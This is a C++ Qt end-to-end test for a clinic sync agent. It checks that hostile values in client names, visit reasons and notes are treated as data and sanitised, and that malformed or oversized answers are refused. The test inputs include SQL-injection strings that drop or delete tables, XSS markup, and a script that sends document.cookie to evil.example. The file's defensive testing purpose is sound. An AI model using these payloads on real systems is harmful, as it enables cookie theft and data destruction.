// Hostile input through whole syncs (issue 16, item 4; docs/RELIABILITY.md, "Hostile input"): one clinic
// week in the Neo simulator, one agent install, its real sync runs (sync_bench.h), after a good sync.
// - Script, SQL and markup in a client's names, a visit's reason and its notes are data: the run
//   completes and the backend holds exactly the simulator's ground truth (names as typed, notes
//   sanitised by the contract's rules), no <script> in what is uploaded.
// - An answer of the wrong types (strings where numbers are, numbers where strings are, nulls in every
//   required field) or a 10 MB note: no crash, the run is partial with the field's warning (the note's
//   consultation refused whole, unread), and the backend still holds what the last good read left
//   (nothing wrong or cut uploaded); the next clean read settles it.
// Each fault must reach an answer (the simulator counts what its mutations changed).

#include "sync/core/item_key.h"
#include "tests/e2e/thursday_bench.h"
#include "tests/e2e/truth_compare.h"
#include "tests/support/webengine_test_main.h"

#include <QJsonDocument>

using namespace odis;
using odis::sim::neo::SimChange;

namespace {

QJsonObject retype(const char* path, const char* to)
{
    return QJsonObject{{"op", "retype"}, {"path", path}, {"to", to}};
}

} // namespace

class TstSyncHostile : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { m_bench.startWithAGoodSync(); }
    void scriptAndSqlAreData();
    void wrongTypesAndHugeValuesAreRefused_data();
    void wrongTypesAndHugeValuesAreRefused();

private:
    test::ThursdayBench m_bench;
};

void TstSyncHostile::scriptAndSqlAreData()
{
    const auto visit = m_bench.takeThursdayVisit();
    QVERIFY2(visit, "no finished Thursday visit with notes");
    SimChange hostile;
    hostile.client = visit->client;
    hostile.client->firstName = QStringLiteral("Robert'); DROP TABLE outbox;--");
    hostile.client->lastName = QStringLiteral("<img src=x onerror=alert(1)> O'Brien");
    hostile.reason = QStringLiteral("\"; DELETE FROM items WHERE '1'='1");
    hostile.notesHtml =
        visit->notesHtml +
        QStringLiteral("<p onclick=\"steal()\">Owner wrote: <script>fetch('//evil.example/'+document."
                       "cookie)</script>'; DROP TABLE consultations; --</p>"
                       "<iframe src=\"javascript:alert(1)\"></iframe><a href=\"//evil\">x</a>");
    m_bench.change(*visit, hostile);
    m_bench->advance(61 * 60); // past the re-read interval: recent notes are read again
    m_bench.syncExpecting(agent::RunStatus::Completed);
    m_bench.countReadNow();
    m_bench.expectTruth("after script and SQL in names, reason and notes");

    const auto items = m_bench->backendItems();
    QVERIFY(items);
    const auto payloads = test::payloadsByKey(*items);
    const QJsonObject consultation =
        payloads.value(sync::consultationKey(QString::number(*visit->consultationId)));
    const QString notesHtml = consultation.value(QStringLiteral("notes_html")).toString();
    QVERIFY2(notesHtml.contains(u"DROP TABLE consultations"), "the note's text is kept as text");
    for (const char* gone : {"<script", "onclick", "<iframe", "javascript:", "<a "})
        QVERIFY2(!notesHtml.contains(QLatin1String(gone), Qt::CaseInsensitive), gone);
}

void TstSyncHostile::wrongTypesAndHugeValuesAreRefused_data()
{
    QTest::addColumn<QString>("route");
    QTest::addColumn<QJsonArray>("mutations");
    QTest::addColumn<QString>("code");
    QTest::addColumn<QString>("field");
    QTest::newRow("strings as numbers")
        << QStringLiteral("schedule") << QJsonArray{retype("[].patient_name", "number")}
        << QStringLiteral("neo_layout_changed") << QStringLiteral("patient_name");
    QTest::newRow("numbers as strings")
        << QStringLiteral("schedule") << QJsonArray{retype("[].consultation_id", "string")}
        << QStringLiteral("neo_layout_changed") << QStringLiteral("consultation_id");
    QTest::newRow("nulls everywhere")
        << QStringLiteral("schedule")
        << QJsonArray{retype("[].id", "null"),       retype("[].start", "null"),
                      retype("[].end", "null"),      retype("[].resourceId", "null"),
                      retype("[].is_block", "null"), retype("[].is_roster", "null")}
        << QStringLiteral("neo_layout_changed") << QStringLiteral("start");
    QTest::newRow("consultation nulls")
        << QStringLiteral("consultation")
        << QJsonArray{retype("consultation.status", "null"), retype("consultation.id", "null")}
        << QStringLiteral("neo_layout_changed") << QStringLiteral("consultation.status");
    // In every other answer (most visits failing would fail the whole read: neo_reads_failed). The page
    // does not read an answer over its cap (NeoSessionConfig::maxAnswerBytes): that consultation is
    // refused whole, the rest of the read goes on. A 2 MB note is read and refused by its field
    // (tst_sync_held_back).
    QTest::newRow("a 10 MB note") << QStringLiteral("consultation")
                                  << QJsonArray{QJsonObject{{"op", "oversize"},
                                                            {"path", "consultation.notes"},
                                                            {"length", 10'000'000},
                                                            {"rows", "some"}}}
                                  << QStringLiteral("neo_value_too_long") << QStringLiteral("(answer)");
}

void TstSyncHostile::wrongTypesAndHugeValuesAreRefused()
{
    QFETCH(QString, route);
    QFETCH(QJsonArray, mutations);
    QFETCH(QString, code);
    QFETCH(QString, field);
    QVERIFY(m_bench->ageReads(2 * 3600)); // recent consultations are read again
    QVERIFY(m_bench->setFault(route, QJsonObject{{"mutate", mutations}}));
    const auto run = m_bench.syncExpecting(agent::RunStatus::Partial);
    m_bench->clearFaults();
    QVERIFY(run);
    QVERIFY(m_bench->mutatedValues(route) > 0);
    const QJsonObject report = m_bench->runReport(run->run->runId);
    QVERIFY2(!test::reportWarnings(report, code, field).isEmpty(),
             QJsonDocument(report.value(QStringLiteral("warnings")).toArray()).toJson().constData());
    // Nothing of the hostile answer reached the backend: it holds what the last good read left.
    m_bench.expectTruth("after a hostile answer");
    QCOMPARE(m_bench->backendSummary().value(QStringLiteral("rejected_items")).toInteger(), 0);
    m_bench.syncExpecting(agent::RunStatus::Completed);
    m_bench.expectTruth("after the next clean read");
}

ODIS_WEBENGINE_TEST_MAIN(TstSyncHostile)
#include "tst_sync_hostile.moc"
